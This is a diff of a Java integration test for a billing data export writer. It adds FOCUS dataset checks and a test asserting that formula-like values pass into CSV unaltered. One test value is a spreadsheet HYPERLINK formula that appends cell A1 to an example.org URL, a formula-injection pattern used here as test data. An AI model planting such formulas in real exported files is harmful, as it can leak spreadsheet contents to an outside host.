@@ -40,6 +40,7 @@ import tools.jackson.databind.json.JsonMapper;
 
 /** Files of a month of two organizations, in parts of 25 rows; each test has its own directory. */
 class ExportWriterIT {
+  private static final String FOCUS = "focus_cost_and_usage";
   private static final long TENANT = 71;
   private static final int REQUESTS = 40;
   private static final int PART_ROWS = 25;
@@ -216,6 +217,25 @@ class ExportWriterIT {
     }
   }
 
+  /** Finance's programs read them, and FOCUS forbids another character (decision 0028). */
+  @Test
+  void whatASpreadsheetWouldComputeIsAsTheCallerSentIt() throws IOException {
+    Scope formulas = Scope.of(new FormulaDataset(), from, to, null);
+    List<String> expected =
+        FormulaDataset.TEXTS.stream().map(text -> text + "|-1.500000000000000000").toList();
+    for (FileFormat format : FileFormat.values()) {
+      write(formulas, format, directory);
+      String all = Duck.all(directory, format);
+      assertThat(Duck.query("select text, cost::decimal(38,18)::varchar from %s".formatted(all)))
+          .as(format.name())
+          .isEqualTo(expected);
+    }
+    write(formulas, FileFormat.CSV, directory);
+    assertThat(Files.readString(directory.resolve("formulas-00001.csv")))
+        .contains("\n1,\"=HYPERLINK(\"\"https://example.org/?\"\"&A1,\"\"x\"\")\",-1.5\n")
+        .contains("\n2,+49 30 1234,-1.5\n", "\n3,-1,-1.5\n", "\n4,@SUM(A1),-1.5\n");
+  }
+
   @Test
   void aKilledChildLeavesNothingThatLooksWhole() throws IOException {
     Files.writeString(directory.resolve(Manifest.NAME), "of an earlier export");
@@ -283,7 +303,7 @@ class ExportWriterIT {
 
     assertThatThrownBy(() -> writer.write(usage(null), FileFormat.CSV_GZ, target, progress))
         .isInstanceOf(ExportWriter.RowsChanged.class);
-    assertThat(directory.resolve(Manifest.NAME)).doesNotExist();
+    assertThat(directory.resolve(Manifest.NAME)).as("nothing was changed").exists();
   }
 
   @Test
@@ -388,7 +408,7 @@ class ExportWriterIT {
     billing.clock().set(now);
 
     Instant later = to.plus(Duration.ofDays(2)); // the invoice's journal is of the next month
-    for (String name : List.of("usage_records", "usage_hourly", "ledger_entries")) {
+    for (String name : List.of("usage_records", "usage_hourly", "ledger_entries", FOCUS)) {
       Path place = Files.createDirectories(directory.resolve(name));
       write(Scope.of(datasets.named(name), from, later, tenant), FileFormat.PARQUET, place);
     }
@@ -401,6 +421,7 @@ class ExportWriterIT {
     assertThat(pico(directory.resolve("usage_records"), "sum(cost_pico)::hugeint / 1e12", "true"))
         .isEqualTo(lines);
     assertThat(pico(directory.resolve("usage_hourly"), "sum(cost)", "true")).isEqualTo(lines);
+    assertThat(pico(directory.resolve(FOCUS), "sum(BilledCost)", "true")).isEqualTo(lines);
     Path ledger = directory.resolve("ledger_entries");
     assertThat(pico(ledger, "-sum(amount)", "account = 'revenue'")).isEqualTo(lines);
     assertThat(pico(ledger, "sum(amount)", "account = 'accrued' and kind = 'USAGE'"))
@@ -468,30 +489,6 @@ class ExportWriterIT {
   private static String unzipped(Path file) throws IOException {
     try (var in = new GZIPInputStream(new ByteArrayInputStream(Files.readAllBytes(file)))) {
       return new String(in.readAllBytes(), StandardCharsets.UTF_8);
-    }
-  }
-
-  /** Whatever a value can be. */
-  private static final class OddDataset extends Dataset {
-    OddDataset() {
-      super(
-          "odd",
-          List.of(
-              new Column("id", Column.Type.BIGINT, false, ""),
-              new Column("text", Column.Type.TEXT, true, ""),
-              new Column("cost", Column.Type.DECIMAL, true, ""),
-              new Column("currency", Column.Type.TEXT, false, ""),
-              new Column("at", Column.Type.TIMESTAMP, true, ""),
-              new Column("json", Column.Type.JSON, true, "")),
-          """
-      select * from (values
-        (1, null, 99999999999999999990.999999999999999999, 'USD', null::timestamptz, null::jsonb),
-        (2, '', -0.000000000000000001, 'USD', null, '{"a": "x, \\"y\\""}'),
-        (3, '\\N', null, 'USD', null, null),
-        (4, E'a,"b"\\nc\\td ☃ ''e''', 0.5, 'USD', '2026-11-01T00:00:00.000001Z', '[1, 2]')
-      ) as odd(id, text, cost, currency, at, json)
-      where :from < :to and :organization is null order by id
-      """);
     }
   }
 }
